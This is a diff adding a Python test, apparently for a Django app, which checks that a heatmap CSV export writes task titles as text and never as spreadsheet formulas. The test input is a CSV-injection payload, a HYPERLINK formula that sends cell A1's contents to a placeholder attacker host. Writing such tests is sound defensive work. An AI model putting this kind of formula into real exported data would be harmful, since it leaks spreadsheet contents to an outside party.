@@ -546,6 +546,15 @@ def test_the_heatmap_csv_matches_the_page(client, board, grid, make_user):
     assert rows[1][:4] == ["Business Plan 2026/27", "1", "Prevention", "Performance Sub-Group"]
 
 
+def test_the_heatmap_csv_writes_titles_as_text_never_formulas(client, board, grid, make_user):
+    grid["one"].title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    grid["one"].save()
+    client.force_login(make_user(Role.VIEWER, board))
+    rows = list(csv.reader(io.StringIO(client.get(f"/boards/{board.slug}/rag/heatmap.csv")
+                                       .content.decode())))  # fmt: skip
+    assert rows[1][2] == "'" + grid["one"].title
+
+
 def test_the_heatmap_filters_by_plan_and_delivery_group(
     client, board, grid, other_group, make_user
 ):
